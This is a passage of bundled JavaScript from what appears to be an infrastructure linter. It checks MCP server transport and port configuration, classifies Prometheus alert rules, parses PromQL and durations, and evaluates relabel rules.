Object.defineProperty(exports, "__esModule", ({ value: true }));
const proxy_config_1 = __webpack_require__(73342);
const list_services_1 = __webpack_require__(63251);
const types_1 = __webpack_require__(15200);
const TRANSPORT_LABELS = ['com.mcp.transport', 'mcp.transport'];
const TRANSPORT_VARIABLES = ['MCP_TRANSPORT', 'TRANSPORT', 'FASTMCP_TRANSPORT'];
exports["default"] = (0, types_1.defineCheck)({
    id: 'mcp/transport-declared',
    target: 'repository',
    meta: {
        title: 'MCP service does not declare its transport',
        category: 'operations',
        severity: 'info',
        rationale: 'An MCP server speaks stdio, SSE or streamable HTTP, and every client (LiteLLM, smoke tests, the Inspector) must pick the same one. When nothing in the repository says which, the choice is rediscovered by trial and error at each integration, and a server that switches from SSE to streamable HTTP in an upgrade breaks the gateway silently.',
        remediation: 'Declare it once where tools can read it: a label (`com.mcp.transport: sse`), the `transport` of its LiteLLM mcp_servers entry, or the `transport` of its smoke target in stackgate.yml.',
        messages: {
            undeclared: 'MCP service "{{service}}" declares no transport: no com.mcp.transport label, MCP_TRANSPORT variable or --transport flag, smoke target transport or LiteLLM transport',
        },
    },
    check(ctx) {
        const services = (0, list_services_1.findMcpServices)({ config: ctx.config, compose: ctx.compose, kubernetes: ctx.kubernetes });
        if (!services.length)
            return ctx.notApplicable();
        const entries = (0, proxy_config_1.findLiteLlmConfigs)({ paths: ctx.paths, read: ctx.read, yaml: ctx.yaml, configured: ctx.config.mcp.litellm }).flatMap((c) => c.entries);
        const smoke = Object.values(ctx.config.smoke.environments);
        for (const { first: s, deployments, hosts } of (0, list_services_1.servicesByName)(services)) {
            const declared = deployments.some(declaresItself) ||
                smoke.some((targets) => hosts.some((h) => targets[h]?.transport !== undefined || targets[h]?.command !== undefined)) ||
                entries.some((e) => e.rawTransport !== undefined && (0, proxy_config_1.isEntryFor)(e, { name: s.name, deployments }));
            if (!declared)
                ctx.report({ messageId: 'undeclared', data: { service: s.name }, at: s.loc });
        }
    },
});
function declaresItself(s) {
    return TRANSPORT_LABELS.some((l) => !!s.labels[l]) || TRANSPORT_VARIABLES.some((v) => !!s.variables[v]) || s.args.some((a) => /^--transport(=|$)/.test(a));
}


/***/ }),

/***/ 50918:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const proxy_config_1 = __webpack_require__(73342);
const list_services_1 = __webpack_require__(63251);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'mcp/unique-ports',
    target: 'repository',
    meta: {
        title: 'MCP services share a container port on one network',
        category: 'correctness',
        severity: 'error',
        rationale: "MCP endpoints address each server by a port of its own (the 8501-8509 convention): Prometheus targets, LiteLLM URLs, smoke tests and the 1:1 published ports on Edge endpoints all assume that one port means one server. Two MCP servers on the same network listening on the same port make a wrong LiteLLM or scrape URL look right, and collide outright under `network_mode: host`; two LiteLLM entries dialing the same URL register one server twice and leave the other one out. Published host ports that collide are compose/port-conflict's job.",
        remediation: 'Give every MCP server its own container port (e.g. PORT=8504 and `ports: ["8504:8504"]`) and make each LiteLLM entry dial its own server.',
        messages: {
            sharedPort: 'MCP service "{{service}}" listens on port {{port}} on network {{network}}{{where}}, as MCP service "{{other}}" of stack {{otherStack}} does',
            duplicateEntry: 'LiteLLM entry "{{entry}}" dials {{url}}, already registered as entry "{{other}}"',
        },
    },
    check(ctx) {
        const mcp = (0, list_services_1.findMcpServices)({ config: ctx.config, compose: ctx.compose, kubernetes: ctx.kubernetes }).filter((s) => s.platform === 'compose');
        const entries = (0, proxy_config_1.findLiteLlmConfigs)({ paths: ctx.paths, read: ctx.read, yaml: ctx.yaml, configured: ctx.config.mcp.litellm })
            .flatMap((c) => c.entries)
            .filter((e) => e.url && (0, proxy_config_1.parseEntryUrl)(e.url));
        if ((0, list_services_1.distinctServices)(mcp, 'deployment').length < 2 && entries.length < 2)
            return ctx.notApplicable();
        // The same clash usually exists in every environment (a base file): one finding, naming them all.
        const clashes = new Map();
        for (const env of ctx.compose.environments) {
            const seen = new Map();
            for (const s of mcp.filter((x) => x.environment === env.name)) {
                const reported = new Set();
                for (const network of s.networks.filter((n) => !n.startsWith('service:'))) {
                    for (const port of s.containerPorts) {
                        const key = `${network}|${port}`;
                        const other = seen.get(key);
                        if (!other) {
                            seen.set(key, s);
                            continue;
                        }
                        if (other.name === s.name || reported.has(port))
                            continue;
                        reported.add(port);
                        const at = s.publishedPorts.find((p) => p.target === port)?.loc ?? s.loc;
                        const id = `${at.file}:${at.line}:${at.column}|${s.name}|${port}|${network}|${other.name}`;
                        const clash = clashes.get(id) ?? {
                            at,
                            data: { service: s.name, port, network, other: other.name, otherStack: other.stack ?? '' },
                            environments: [],
                        };
                        clash.environments.push(env.name);
                        clashes.set(id, clash);
                    }
                }
            }
        }
        for (const { at, data, environments } of clashes.values())
            ctx.report({ messageId: 'sharedPort', data: { ...data, where: environments[0] ? ` in ${environments.join(', ')}` : '' }, at });
        const dialed = new Map();
        for (const e of entries) {
            const u = (0, proxy_config_1.parseEntryUrl)(e.url);
            const key = `${u.host}:${u.port}${u.path.replace(/\/+$/, '')}`;
            const other = dialed.get(key);
            if (other !== undefined)
                ctx.report({ messageId: 'duplicateEntry', data: { entry: e.name, url: e.url, other }, at: e.urlLoc ?? e.loc });
            else
                dialed.set(key, e.name);
        }
    },
});


/***/ }),

/***/ 74521:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.missingLocation = missingLocation;
/**
 * Where a repository check reports something that is missing altogether (no alert rule, no log
 * shipper): stackgate.yml when the repository has one, else the README, else the repository itself.
 */
const node_path_1 = __importDefault(__webpack_require__(76760));
function missingLocation(ctx) {
    // A --config from outside the repository is no place in it to point at.
    if (ctx.configFile && !ctx.configFile.startsWith('../') && !node_path_1.default.isAbsolute(ctx.configFile))
        return { file: ctx.configFile, line: 1, column: 1 };
    const readme = ctx.paths.find((p) => /^readme(\.[a-z]+)?$/i.test(p));
    return { file: readme ?? '.', line: 1, column: 1 };
}


/***/ }),

/***/ 67926:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.alertRules = alertRules;
exports.alertKindStatus = alertKindStatus;
exports.rulesWhere = rulesWhere;
/**
 * Which kinds of failure the alerting rules of a repository detect: a target that is down, an
 * error rate, latency, memory. An alert on a recorded series counts by what the recording rule
 * computes (`mcp:errors:ratio_rate5m` is an error rate when its expression rates error requests).
 * Shared by the monitoring/alert-* readiness checks.
 */
const list_services_1 = __webpack_require__(63251);
const yaml_tree_1 = __webpack_require__(43183);
const missing_location_1 = __webpack_require__(74521);
const _rules_1 = __webpack_require__(54790);
const STRING = /"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*'|`[^`]*`/g;
const IDENTIFIER = /[a-zA-Z_:][\w:]*/g;
const DOWN_COMPARISON = /==\s*0(?![.\d]*[1-9])|<\s*(?:1(?:\.0*)?|0?\.\d+)(?![\d.])|<=\s*0(?![.\d]*[1-9])|!=\s*1(?![\d.])/;
const RATE = /\b(?:rate|irate|increase)\s*\(/;
/** The kinds of failure one PromQL expression detects. */
function classifyExpression(expr) {
    const kinds = new Set();
    const code = expr.replace(/#[^\n]*/g, '');
    const bare = code.replace(STRING, '""');
    const identifiers = bare.match(IDENTIFIER) ?? [];
    const has = (re) => identifiers.some((t) => re.test(t));
    const comparesDown = DOWN_COMPARISON.test(bare);
    if (/\babsent_over_time\s*\(|\babsent\s*\(\s*up\b/.test(bare))
        kinds.add('down');
    if (comparesDown && has(/^(up|probe_success|kube_deployment_status_replicas_available|kube_statefulset_status_replicas_ready)$/))
        kinds.add('down');
    const errorSignal = /5xx/i.test(code) ||
        /(?:status|code)\w*\s*=~?\s*"5/i.test(code) ||
        /=~?\s*"(?:[^"]*\|)?(?:error|errors|failed|failure|fail)(?:\|[^"]*)?"/i.test(code) ||
        has(/error|fail/i);
    if (errorSignal && (RATE.test(bare) || has(/error.*(rate|ratio)|(rate|ratio).*error/i)))
        kinds.add('error-rate');
    if (/\bhistogram_quantile\s*\(/.test(bare) || has(/^(?!scrape_|prometheus_)[\w:]*(_duration_|_latency|latency_|response_time)/i))
        kinds.add('latency');
    const memory = has(/^(container_memory_\w+|container_spec_memory_limit_bytes|process_resident_memory_bytes|node_memory_\w+|jvm_memory_\w+|nodejs_heap_\w+|go_memstats_heap_\w+|container_oom_events_total)$/) ||
        (has(/^kube_pod_container_resource_(limits|requests)/) && /memory/.test(code)) ||
        /OOMKilled/.test(code) ||
        has(/(^|[_:])(memory|oom)([_:]|$)/i);
    if (memory)
        kinds.add('memory');
    return kinds;
}
/** Alert rules per run (its rule documents): five checks classify the same rules. */
const rulesOf = new WeakMap();
/** Every alerting rule of the repository, classified, with recorded series expanded. */
function alertRules(docs) {
    let rules = rulesOf.get(docs);
    if (!rules)
        rulesOf.set(docs, (rules = classifyRules(docs)));
    return rules;
}
function classifyRules(docs) {
    const recorded = new Map();
    for (const doc of docs) {
        for (const r of (0, _rules_1.allRules)(doc.root))
            if (r.kind === 'record' && r.name && typeof r.rule.expr === 'string')
                recorded.set(r.name, r.rule.expr);
    }
    const expand = (expr, depth) => depth > 3 ? expr : expr.replace(IDENTIFIER, (id) => (recorded.has(id) ? `(${expand(recorded.get(id), depth + 1)}) ${id}` : id));
    const out = [];
    for (const doc of docs) {
        for (const r of (0, _rules_1.allRules)(doc.root)) {
            if (r.kind !== 'alert' || !r.name)
                continue;
            const expr = typeof r.rule.expr === 'string' ? r.rule.expr : typeof r.rule.expr === 'number' ? String(r.rule.expr) : '';
            out.push({ file: doc.file, name: r.name, kinds: classifyExpression(expand(expr, 0)) });
        }
    }
    return out;
}
/**
 * Whether some alert detects `kind`. Not applicable to a repository with no rules that deploys no MCP server.
 * A missing alert is reported at the first rules file, or where missing things are reported.
 */
function alertKindStatus(ctx, kind) {
    const docs = ctx.prometheusRules;
    // Alerting is asked of a repository with rules of its own, or that deploys MCP servers.
    if (!docs.length && !(0, list_services_1.deploysMcpServers)({ config: ctx.config, compose: ctx.compose, kubernetes: ctx.kubernetes }))
        return { applicable: false };
    const covered = alertRules(docs).some((r) => r.kinds.has(kind));
    const first = docs[0];
    const at = first ? (0, yaml_tree_1.locate)(first.root, ['groups'], first.root.keyLoc ?? first.root.loc) : (0, missing_location_1.missingLocation)(ctx);
    return { applicable: true, covered, at, rulesFiles: new Set(docs.map((d) => d.file)).size };
}
/** "in monitoring/rules.yml" or "in a Prometheus rules file (none exists)" for messages. */
function rulesWhere(ctx) {
    const files = [...new Set(ctx.prometheusRules.map((d) => d.file))];
    return files.length ? `in ${files.slice(0, 3).join(', ')}${files.length > 3 ? ', ...' : ''}` : 'in a Prometheus rules file (the repository has none)';
}


/***/ }),

/***/ 32585:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.dashboardPanels = dashboardPanels;
const _rules_1 = __webpack_require__(54790);
function dashboardPanels(dashboard) {
    const out = [];
    const walk = (panels, path) => {
        if (!Array.isArray(panels))
            return;
        panels.forEach((p, i) => {
            if (!(0, _rules_1.isRecord)(p))
                return;
            const here = [...path, i];
            const title = typeof p.title === 'string' && p.title.trim() ? p.title : `#${typeof p.id === 'number' ? p.id : i + 1}`;
            out.push({ path: here, panel: p, title });
            walk(p.panels, [...here, 'panels']);
        });
    };
    walk(dashboard.panels, ['panels']);
    return out;
}


/***/ }),

/***/ 20947:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.regexModel = regexModel;
exports.areExclusive = areExclusive;
const ANY = { negated: true, chars: new Set() };
const MAX_ALTERNATIVES = 64;
const MAX_CLASS = 512;
const single = (c) => ({ negated: false, chars: new Set([c]) });
const range = (from, to) => {
    const out = [];
    for (let c = from.charCodeAt(0); c <= to.charCodeAt(0) && out.length <= MAX_CLASS; c++)
        out.push(String.fromCharCode(c));
    return out;
};
const ESCAPES = {
    d: () => ({ negated: false, chars: new Set(range('0', '9')) }),
    w: () => ({ negated: false, chars: new Set([...range('0', '9'), ...range('a', 'z'), ...range('A', 'Z'), '_']) }),
    s: () => ({ negated: false, chars: new Set([' ', '\t', '\n', '\r', '\f', '\v']) }),
};
class Unsupported extends Error {
}
/** The model of an RE2 pattern as Prometheus applies it (`^(?:pattern)$`), or undefined when beyond it. */
function regexModel(pattern) {
    let i = 0;
    const alternation = () => {
        const out = [...sequence()];
        while (pattern[i] === '|') {
            i++;
            out.push(...sequence());
        }
        if (out.length > MAX_ALTERNATIVES)
            throw new Unsupported();
        return out;
    };
    const sequence = () => {
        let alts = [{ sets: [], open: false }];
        while (i < pattern.length && pattern[i] !== '|' && pattern[i] !== ')') {
            const atom = atomModel();
            const quantified = quantify(atom);
            const next = [];
            for (const a of alts) {
                // After "anything", the rest adds nothing the model can tell apart.
                if (a.open)
                    next.push(a);
                else
                    for (const q of quantified)
                        next.push({ sets: [...a.sets, ...q.sets], open: q.open });
            }
            if (next.length > MAX_ALTERNATIVES)
                throw new Unsupported();
            alts = next;
        }
        return alts;
    };
    const atomModel = () => {
        const c = pattern[i++];
        if (c === '(') {
            if (pattern[i] === '?') {
                if (pattern[i + 1] !== ':')
                    throw new Unsupported(); // flags such as (?i), named groups
                i += 2;
            }
            const inner = alternation();
            if (pattern[i++] !== ')')
                throw new Unsupported();
            return inner;
        }
        if (c === '[')
            return [{ sets: [charClass()], open: false }];
        if (c === '.')
            return [{ sets: [ANY], open: false }];
        if (c === '\\')
            return [{ sets: [escape()], open: false }];
        if (c === '^' || c === '$') {
            // Redundant anchors at the ends; anywhere else the model gives up.
            if ((c === '^' && i === 1) || (c === '$' && i === pattern.length))
                return [{ sets: [], open: false }];
            throw new Unsupported();
        }
        if ('*+?{'.includes(c))
            throw new Unsupported();
        return [{ sets: [single(c)], open: false }];
    };
    const escape = () => {
        const c = pattern[i++];
        if (c === undefined)
            throw new Unsupported();
        if (ESCAPES[c])
            return ESCAPES[c]();
        if (/[A-Za-z0-9]/.test(c))
            throw new Unsupported(); // \D, \b, \pL, \x41...
        return single(c);
    };
    const charClass = () => {
        const negated = pattern[i] === '^';
        if (negated)
            i++;
        const chars = new Set();
        let first = true;
        while (i < pattern.length && (pattern[i] !== ']' || first)) {
            first = false;
            let c = pattern[i++];
            if (c === '[')
                throw new Unsupported(); // [[:alpha:]]
            if (c === '\\') {
                const set = escape();
                if (set.negated)
                    throw new Unsupported();
                set.chars.forEach((x) => chars.add(x));
                continue;
            }
            if (pattern[i] === '-' && pattern[i + 1] !== ']' && i + 1 < pattern.length) {
                let to = pattern[i + 1];
                i += 2;
                if (to === '\\')
                    to = pattern[i++];
                range(c, to).forEach((x) => chars.add(x));
                c = '';
            }
            if (c)
                chars.add(c);
            if (chars.size > MAX_CLASS)
                throw new Unsupported();
        }
        if (pattern[i++] !== ']')
            throw new Unsupported();
        return { negated, chars };
    };
    /** `?`, `{n}`, `{n,m}` expand; `*` and `+` become "anything" after the mandatory part (a superset). */
    const quantify = (atom) => {
        const q = pattern[i];
        if (q === '*' || q === '+') {
            i++;
            if (pattern[i] === '?')
                i++;
            return q === '*' ? [{ sets: [], open: true }] : atom.map((a) => ({ sets: a.sets, open: true }));
        }
        if (q === '?') {
            i++;
            if (pattern[i] === '?')
                i++;
            return [{ sets: [], open: false }, ...atom];
        }
        if (q === '{') {
            const m = /^\{(\d+)(,(\d*))?\}/.exec(pattern.slice(i));
            if (!m)
                throw new Unsupported();
            i += m[0].length;
            const min = Number(m[1]);
            const max = m[2] === undefined ? min : m[3] === '' ? Infinity : Number(m[3]);
            if (min > 16)
                throw new Unsupported();
            const repeat = (n) => {
                let out = [{ sets: [], open: false }];
                for (let k = 0; k < n; k++)
                    out = out.flatMap((o) => atom.map((a) => ({ sets: [...o.sets, ...a.sets], open: o.open || a.open })));
                return out;
            };
            if (max === Infinity || max - min > 4)
                return repeat(min).map((a) => ({ sets: a.sets, open: true }));
            const out = [];
            for (let n = min; n <= max; n++)
                out.push(...repeat(n));
            return out;
        }
        return atom;
    };
    try {
        const alts = alternation();
        return i === pattern.length ? alts : undefined;
    }
    catch (e) {
        if (e instanceof Unsupported)
            return undefined;
        throw e;
    }
}
function setsMeet(a, b) {
    if (a.negated && b.negated)
        return true;
    if (!a.negated && !b.negated)
        return [...a.chars].some((c) => b.chars.has(c));
    const [pos, neg] = a.negated ? [b, a] : [a, b];
    return [...pos.chars].some((c) => !neg.chars.has(c));
}
function alternativesMeet(a, b) {
    if (!a.open && !b.open && a.sets.length !== b.sets.length)
        return false;
    if (!a.open && b.open && a.sets.length < b.sets.length)
        return false;
    if (a.open && !b.open && b.sets.length < a.sets.length)
        return false;
    const n = Math.min(a.sets.length, b.sets.length);
    for (let k = 0; k < n; k++)
        if (!setsMeet(a.sets[k], b.sets[k]))
            return false;
    return true;
}
const literal = (value) => [{ sets: [...value].map(single), open: false }];
function modelOf(m) {
    return m.op === '=' ? literal(m.value) : m.op === '=~' ? regexModel(m.value) : undefined;
}
/** The finite set of strings a model matches, when it is one (no "anything", single characters). */
function finiteStrings(model) {
    if (!model || model.some((a) => a.open || a.sets.some((s) => s.negated || s.chars.size !== 1)))
        return undefined;
    return model.map((a) => a.sets.map((s) => [...s.chars][0]).join(''));
}
function fullMatch(pattern, value) {
    try {
        return new RegExp(`^(?:${pattern})$`, 'u').test(value);
    }
    catch {
        return undefined; // RE2 syntax JavaScript does not know: undecided
    }
}
/** True only when no label value can satisfy both matchers (they name the same label). */
function areExclusive(a, b) {
    const positive = (m) => m.op === '=' || m.op === '=~';
    if (positive(a) && positive(b)) {
        const ma = modelOf(a);
        const mb = modelOf(b);
        if (ma && mb)
            return !ma.some((x) => mb.some((y) => alternativesMeet(x, y)));
        const [lit, re] = a.op === '=' ? [a, b] : b.op === '=' ? [b, a] : [undefined, undefined];
        return !!lit && !!re && fullMatch(re.value, lit.value) === false;
    }
    if (!positive(a) && !positive(b))
        return false;
    const [pos, neg] = positive(a) ? [a, b] : [b, a];
    if (pos.op === '=~' && neg.op === '!~' && pos.value === neg.value)
        return true;
    const values = finiteStrings(modelOf(pos));
    if (!values)
        return false;
    return values.every((v) => (neg.op === '!=' ? v === neg.value : fullMatch(neg.value, v) === true));
}


/***/ }),

/***/ 59066:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.parsePrometheusDurationMs = parsePrometheusDurationMs;
/** Prometheus durations (`1h30m`, `15s`, `500ms`) in milliseconds; undefined when not a valid duration. */
const UNITS = [
    ['y', 365 * 24 * 3600_000],
    ['w', 7 * 24 * 3600_000],
    ['d', 24 * 3600_000],
    ['h', 3600_000],
    ['m', 60_000],
    ['s', 1000],
    ['ms', 1],
];
const DURATION = /^(?:(\d+)y)?(?:(\d+)w)?(?:(\d+)d)?(?:(\d+)h)?(?:(\d+)m)?(?:(\d+)s)?(?:(\d+)ms)?$/;
function parsePrometheusDurationMs(value) {
    if (typeof value !== 'string' || value === '')
        return undefined;
    if (value === '0')
        return 0;
    const m = DURATION.exec(value);
    if (!m)
        return undefined;
    let total = 0;
    UNITS.forEach(([, ms], i) => {
        if (m[i + 1])
            total += Number(m[i + 1]) * ms;
    });
    return total;
}


/***/ }),

/***/ 20419:
/***/ ((__unused_webpack_module, exports) => {


/**
 * A small PromQL parser: enough structure to follow labels through an expression (selectors with
 * their matchers, aggregations with by/without, function calls, binary operators with on/ignoring
 * and group_left/right). It accepts what Prometheus accepts in recording rules and throws
 * PromqlSyntaxError on anything else; callers treat that as "unknown", never as a finding.
 */
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.PromqlSyntaxError = void 0;
exports.tokenize = tokenize;
exports.parsePromql = parsePromql;
class PromqlSyntaxError extends Error {
}
exports.PromqlSyntaxError = PromqlSyntaxError;
const AGGREGATIONS = new Set([
    'sum',
    'min',
    'max',
    'avg',
    'group',
    'stddev',
    'stdvar',
    'count',
    'count_values',
    'bottomk',
    'topk',
    'quantile',
    'limitk',
    'limit_ratio',
]);
/** Binary operators by precedence (Prometheus: `^` binds tightest and is right-associative). */
const PRECEDENCE = {
    or: 1,
    and: 2,
    unless: 2,
    '==': 3,
    '!=': 3,
    '<=': 3,
    '<': 3,
    '>=': 3,
    '>': 3,
    '+': 4,
    '-': 4,
    '*': 5,
    '/': 5,
    '%': 5,
    atan2: 5,
    '^': 6,
};
const TOKEN = /\s+|#[^\n]*|(?<duration>(?:\d+(?:ms|[smhdwy]))+(?![\w.]))|(?<number>0x[0-9a-fA-F]+|(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?(?![\w]))|(?<ident>[A-Za-z_:][\w:]*)|(?<string>"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*'|`[^`]*`)|(?<punct>=~|!~|==|!=|<=|>=|[-+*/%^<>=(){}[\],:@])/y;
function tokenize(expr) {
    const out = [];
    TOKEN.lastIndex = 0;
    while (TOKEN.lastIndex < expr.length) {
        const at = TOKEN.lastIndex;
        const m = TOKEN.exec(expr);
        if (!m)
            throw new PromqlSyntaxError(`unexpected character ${JSON.stringify(expr[at])} at ${at + 1}`);
        const g = m.groups ?? {};
        if (g.duration)
            out.push({ kind: 'duration', text: g.duration });
        else if (g.number)
            out.push({ kind: 'number', text: g.number });
        else if (g.ident)
            out.push({ kind: 'ident', text: g.ident });
        else if (g.string)
            out.push({ kind: 'string', text: g.string });
        else if (g.punct)
            out.push({ kind: 'punct', text: g.punct });
    }
    return out;
}
/** The value of a PromQL string literal. */
function unquote(text) {
    if (text.startsWith('`'))
        return text.slice(1, -1);
    return text.slice(1, -1).replace(/\\(.)/g, (_m, c) => ({ n: '\n', t: '\t', r: '\r' })[c] ?? c);
}
function parsePromql(expr) {
    const tokens = tokenize(expr);
    let pos = 0;
    const peek = (offset = 0) => tokens[pos + offset];
    const isPunct = (text, t = peek()) => t?.kind === 'punct' && t.text === text;
    const isWord = (text, t = peek()) => t?.kind === 'ident' && t.text.toLowerCase() === text;
    const fail = (what) => {
        throw new PromqlSyntaxError(`${what} at token ${pos + 1} (${peek()?.text ?? 'end of expression'})`);
    };
    const expect = (text) => {
        if (!isPunct(text))
            fail(`expected "${text}"`);
        pos++;
    };
    /** `open item, item, ... close`, a trailing comma allowed. */
    const list = (open, close, item) => {
        expect(open);
        const out = [];
        while (!isPunct(close)) {
            out.push(item());
            if (!isPunct(close))
                expect(',');
        }
        pos++;
        return out;
    };
    const labelList = () => list('(', ')', () => {
        const t = peek();
        if (t?.kind !== 'ident')
            fail('expected a label name');
        pos++;
        return t.text;
    });
    const matchers = () => list('{', '}', () => {
        const [label, op, value] = [peek(), peek(1), peek(2)];
        if (label?.kind !== 'ident' && label?.kind !== 'string')
            fail('expected a label name');
        if (op?.kind !== 'punct' || !['=', '!=', '=~', '!~'].includes(op.text) || value?.kind !== 'string')
            fail('expected a label matcher');
        pos += 3;
        return { label: label.kind === 'string' ? unquote(label.text) : label.text, op: op.text, value: unquote(value.text) };
    });
    const args = () => list('(', ')', () => expression(0));
    const grouping = () => {
        if (!isWord('by') && !isWord('without'))
            return undefined;
        const without = isWord('without');
        pos++;
        return { without, labels: labelList() };
    };
    const primary = () => {
        const t = peek();
        if (!t)
            return fail('unexpected end of expression');
        if (t.kind === 'number' || t.kind === 'duration') {
            pos++;
            return { type: 'number' };
        }
        if (t.kind === 'string') {
            pos++;
            return { type: 'string', value: unquote(t.text) };
        }
        if (isPunct('-') || isPunct('+')) {
            pos++;
            return postfix(primary());
        }
        if (isPunct('(')) {
            pos++;
            const inner = expression(0);
            expect(')');
            return inner;
        }
        if (isPunct('{'))
            return { type: 'selector', matchers: matchers() };
        if (t.kind !== 'ident')
            return fail('unexpected token');
        const name = t.text;
        const next = peek(1);
        if (AGGREGATIONS.has(name.toLowerCase()) && (isPunct('(', next) || isWord('by', next) || isWord('without', next))) {
            pos++;
            const before = grouping();
            const list = args();
            return { type: 'aggregation', op: name.toLowerCase(), grouping: before ?? grouping(), args: list };
        }
        if (isPunct('(', next)) {
            pos++;
            return { type: 'call', fn: name, args: args() };
        }
        pos++;
        const named = [{ label: '__name__', op: '=', value: name }];
        return { type: 'selector', matchers: isPunct('{') ? [...named, ...matchers()] : named };
    };
    /** Range `[5m]`, subquery `[1h:5m]`, `offset 5m`, `@ 1700000000` / `@ start()`: they keep the labels. */
    const postfix = (node) => {
        for (;;) {
            if (isPunct('[')) {
                while (pos < tokens.length && !isPunct(']'))
                    pos++;
                expect(']');
            }
            else if (isWord('offset')) {
                pos++;
                if (isPunct('-'))
                    pos++;
                if (peek()?.kind !== 'duration' && peek()?.kind !== 'number')
                    fail('expected a duration');
                pos++;
            }
            else if (isPunct('@')) {
                pos++;
                if (peek()?.kind === 'ident') {
                    pos++;
                    args();
                }
                else
                    pos++;
            }
            else
                return node;
        }
    };
    const expression = (minPrecedence) => {
        let left = postfix(primary());
        for (;;) {
            const t = peek();
            const op = t?.kind === 'punct' ? t.text : t?.kind === 'ident' ? t.text.toLowerCase() : '';
            const precedence = PRECEDENCE[op];
            if (precedence === undefined || precedence < minPrecedence)
                return left;
            pos++;
            if (isWord('bool'))
                pos++;
            let matching;
            let group;
            if (isWord('on') || isWord('ignoring')) {
                const on = isWord('on');
                pos++;
                matching = { on, labels: labelList() };
            }
            if (isWord('group_left') || isWord('group_right')) {
                group = isWord('group_left') ? 'left' : 'right';
                pos++;
                if (isPunct('('))
                    labelList();
            }
            const right = expression(op === '^' ? precedence : precedence + 1);
            left = { type: 'binary', op, left, right, matching, group };
        }
    };
    const root = expression(0);
    if (pos < tokens.length)
        fail('unexpected token');
    return root;
}


/***/ }),

/***/ 5313:
/***/ ((__unused_webpack_module, exports) => {


/**
 * A cheap PromQL structure check: brackets, parentheses, braces and string quotes must balance.
 * It does not parse PromQL (promtool does, when installed); it catches the typos that make
 * Prometheus refuse the whole rule file.
 */
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.findExpressionProblem = findExpressionProblem;
const CLOSERS = { ')': '(', ']': '[', '}': '{' };
/** A human-readable description of the first structural problem, or undefined. */
function findExpressionProblem(expr) {
    const stack = [];
    for (let i = 0; i < expr.length; i++) {
        const c = expr[i];
        if (c === '#') {
            while (i < expr.length && expr[i] !== '\n')
                i++;
            continue;
        }
        if (c === '"' || c === "'" || c === '`') {
            let j = i + 1;
            while (j < expr.length && expr[j] !== c) {
                if (c !== '`' && expr[j] === '\\')
                    j++;
                else if (c !== '`' && expr[j] === '\n')
                    break;
                j++;
            }
            if (j >= expr.length || expr[j] !== c)
                return `unterminated string starting with ${c}`;
            i = j;
            continue;
        }
        if (c === '(' || c === '[' || c === '{')
            stack.push(c);
        else if (c in CLOSERS) {
            const open = stack.pop();
            if (open === undefined)
                return `unexpected "${c}" without a matching "${CLOSERS[c]}"`;
            if (open !== CLOSERS[c])
                return `"${c}" closes "${open}"`;
        }
    }
    const open = stack.pop();
    return open ? `unclosed "${open}"` : undefined;
}


/***/ }),

/***/ 6896:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.survivesRelabel = survivesRelabel;
exports.keptLabels = keptLabels;
exports.passesDockerFilters = passesDockerFilters;
exports.dockerFilterLabels = dockerFilterLabels;
exports.dockerMetaResolver = dockerMetaResolver;
exports.kubernetesMetaResolver = kubernetesMetaResolver;
/**
 * Which targets a service-discovery job keeps: Docker SD `filters` and the `keep`/`drop` rules of
 * `relabel_configs`, evaluated against the meta labels a Compose service or Kubernetes workload
 * would carry. Meta labels that cannot be known from the repository (container IPs, generated
 * container names, node names) make their rule undecidable, and an undecidable rule keeps the
 * target: a finding needs a rule that certainly excludes it.
 */
const _rules_1 = __webpack_require__(54790);
/** Prometheus' label name sanitising: `prometheus.io/scrape` -> `prometheus_io_scrape`. */
function sanitizeLabelName(name) {
    return name.replace(/[^a-zA-Z0-9_]/g, '_');
}
/** Whether the target survives the keep/drop rules (other actions are ignored). */
function survivesRelabel(rules, resolve) {
    if (!Array.isArray(rules))
        return true;
    for (const rule of rules) {
        if (!(0, _rules_1.isRecord)(rule))
            continue;
        const action = typeof rule.action === 'string' ? rule.action.toLowerCase() : 'replace';
        if (action !== 'keep' && action !== 'drop')
            continue;
        const sources = Array.isArray(rule.source_labels) ? rule.source_labels.map(String) : [];
        if (!sources.length)
            continue;
        const values = sources.map(resolve);
        if (values.some((v) => v === undefined))
            continue;
        const regex = anchored(typeof rule.regex === 'string' ? rule.regex : '(.*)');
        if (!regex)
            continue;
        const matched = regex.test(values.join(typeof rule.separator === 'string' ? rule.separator : ';'));
        if (action === 'keep' && !matched)
            return false;
        if (action === 'drop' && matched)
            return false;
    }
    return true;
}
/** The keep rules of a job that test a container label, as `label` (and `regex`), for messages. */
function keptLabels(rules, prefix) {
    if (!Array.isArray(rules))
        return [];
    const out = [];
    for (const rule of rules) {
        if (!(0, _rules_1.isRecord)(rule) || String(rule.action ?? '').toLowerCase() !== 'keep' || !Array.isArray(rule.source_labels))
            continue;
        for (const s of rule.source_labels) {
            if (typeof s === 'string' && s.startsWith(prefix))
                out.push({ label: s.slice(prefix.length), regex: typeof rule.regex === 'string' ? rule.regex : '(.*)' });
        }
    }
    return out;
}
/**
 * Docker SD `filters` of `name: label`: every value (`key` or `key=value`) must match a label of
 * the container. Other filters cannot be judged from the repository and pass.
 */
function passesDockerFilters(sd, labels) {
    if (!Array.isArray(sd.filters))
        return true;
    for (const f of sd.filters) {
